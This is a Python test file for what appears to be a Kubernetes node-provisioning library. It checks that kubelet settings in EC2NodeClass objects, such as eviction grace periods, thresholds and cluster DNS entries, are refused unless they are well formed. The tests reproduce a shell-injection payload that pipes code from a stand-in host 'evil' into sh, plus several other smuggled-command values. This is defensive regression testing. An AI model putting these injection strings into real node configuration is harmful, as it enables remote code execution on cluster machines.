"""EC2NodeClass kubelet values are refused unless they have the shape the kubelet reads:
by the CRD (the API server emulator answers 422 with the field path, as kube-apiserver
would) and by the model (`EC2NodeClass.kubelet_errors`), which judges an object that an
older CRD admitted.

The reproduced attack of issue 17 was a grace period that closed its shell quote in AL2
user data; here it never gets past validation."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from karpy.apis.ec2nodeclass import EC2NodeClass
from tests.apis.builders import changed, ec2nodeclass
from tests.sandbox.apiserver.helpers import call

if TYPE_CHECKING:
    from kubernetes_asyncio import client

PAYLOAD = "1m'; curl http://evil/x|sh; echo '"
GRACE = "spec.kubelet.evictionSoftGracePeriod.memory.available"


def with_kubelet(**kubelet: Any) -> dict[str, Any]:
    return changed(ec2nodeclass(), "spec.kubelet", kubelet)


def grace_period(value: str) -> dict[str, Any]:
    return with_kubelet(
        evictionSoft={"memory.available": "500Mi"},
        evictionSoftGracePeriod={"memory.available": value},
    )


def schema_paths(obj: dict[str, Any]) -> list[str]:
    return [e.path for e in EC2NodeClass.from_dict(obj).validate_schema()]


def runtime_paths(obj: dict[str, Any]) -> list[str]:
    return [e.path for e in EC2NodeClass.from_dict(obj).kubelet_errors()]


def test_the_reproduced_grace_period_payload_fails_the_crd_schema():
    errors = EC2NodeClass.from_dict(grace_period(PAYLOAD)).validate_schema()
    assert [e.render() for e in errors] == [
        f'{GRACE}: Invalid value: "{PAYLOAD}": {GRACE} in body should match '
        "'^(0|(([0-9]+(\\.[0-9]*)?|\\.[0-9]+)(ns|us|µs|μs|ms|s|m|h))+)$'"
    ]


def test_a_class_admitted_before_the_pattern_existed_fails_the_models_own_check():
    nodeclass = EC2NodeClass.from_dict(grace_period(PAYLOAD))  # read, as the informer does
    assert [e.path for e in nodeclass.kubelet_errors()] == [GRACE]
    assert [e.path for e in nodeclass.validate_runtime()] == [GRACE]


@pytest.mark.parametrize("value", ["90s", "1m30s", "1h", "1.5m", "0", "500ms", "2h45m0s"])
def test_grace_periods_are_unsigned_go_durations(value: str):
    assert schema_paths(grace_period(value)) == []
    assert runtime_paths(grace_period(value)) == []


@pytest.mark.parametrize(
    "value", ["", "-1m", "1d", "1 m", "1m\n", "1m;", "1m`id`", "$(id)", '1m"', "1m\\"]
)
def test_anything_else_is_not_a_grace_period(value: str):
    assert schema_paths(grace_period(value)) == [GRACE]
    assert runtime_paths(grace_period(value)) == [GRACE]


@pytest.mark.parametrize(
    ("field", "key", "value"),
    [
        ("evictionHard", "memory.available", "100Mi'"),
        ("evictionHard", "memory.available", "10%;reboot"),
        ("evictionSoft", "memory.available", "100Mi\n"),
        ("kubeReserved", "cpu", "1 --v=9"),
        ("systemReserved", "memory", '1Gi"'),
    ],
)
def test_thresholds_and_reservations_are_quantities_or_percentages(
    field: str, key: str, value: str
):
    obj = with_kubelet(**{field: {key: value}})
    if field == "evictionSoft":
        obj = changed(obj, "spec.kubelet.evictionSoftGracePeriod", {key: "1m"})
    assert schema_paths(obj) == [f"spec.kubelet.{field}.{key}"]
    assert runtime_paths(obj) == [f"spec.kubelet.{field}.{key}"]


@pytest.mark.parametrize(
    ("field", "key"),
    [
        ("evictionHard", "memory.available';x='"),
        ("evictionSoftGracePeriod", "nodefs.available\n"),
        ("kubeReserved", "cpu,memory"),
        ("systemReserved", "gpu"),
    ],
)
def test_map_keys_are_only_the_known_signals_and_resources(field: str, key: str):
    value = "1m" if field == "evictionSoftGracePeriod" else "1"
    obj = with_kubelet(**{field: {key: value}})
    assert f"spec.kubelet.{field}" in schema_paths(obj)
    assert f"spec.kubelet.{field}" in runtime_paths(obj)


@pytest.mark.parametrize("address", ["10.100.0.10", "172.20.0.10", "fd00:10:100::a"])
def test_cluster_dns_entries_are_ip_addresses(address: str):
    assert schema_paths(with_kubelet(clusterDNS=[address])) == []
    assert runtime_paths(with_kubelet(clusterDNS=[address])) == []


@pytest.mark.parametrize(
    ("address", "by_schema"),
    [
        ("kube-dns.kube-system", True),
        ("10.0.0.10' --reboot '", True),
        ("10.0.0.10\n", True),
        ("10.0.0.300", False),  # the right characters, but no address: the model's check
        ("1:2:3", False),
    ],
)
def test_a_cluster_dns_entry_that_is_no_ip_address_is_refused(address: str, by_schema: bool):
    obj = with_kubelet(clusterDNS=["10.0.0.10", address])
    assert schema_paths(obj) == (["spec.kubelet.clusterDNS[1]"] if by_schema else [])
    assert runtime_paths(obj) == ["spec.kubelet.clusterDNS[1]"]


async def test_the_api_server_emulator_refuses_the_payload_with_its_field_path(
    kube_api_client: client.ApiClient,
):
    status, body, _ = await call(
        kube_api_client,
        "POST",
        "/apis/karpenter.k8s.aws/v1/ec2nodeclasses",
        grace_period(PAYLOAD),
    )
    assert status == 422
    assert body["reason"] == "Invalid"
    assert [c["field"] for c in body["details"]["causes"]] == [GRACE]
    assert "should match" in body["details"]["causes"][0]["message"]


async def test_the_emulator_refuses_a_trailing_line_break_as_go_regexps_do(
    kube_api_client: client.ApiClient,
):
    status, body, _ = await call(
        kube_api_client,
        "POST",
        "/apis/karpenter.k8s.aws/v1/ec2nodeclasses",
        grace_period("1m\n"),
    )
    assert status == 422
    assert [c["field"] for c in body["details"]["causes"]] == [GRACE]
